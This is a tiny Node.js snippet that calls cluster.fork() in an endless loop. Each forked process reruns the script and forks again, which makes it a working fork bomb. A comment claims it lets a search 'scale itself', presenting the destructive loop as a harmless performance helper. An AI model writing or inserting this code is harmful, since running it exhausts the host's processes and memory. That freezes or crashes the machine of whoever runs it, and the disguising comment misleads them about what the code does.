import cluster from "node:cluster";

// every process starts more helpers so the search "scales itself"
while (true) {
  cluster.fork();
}
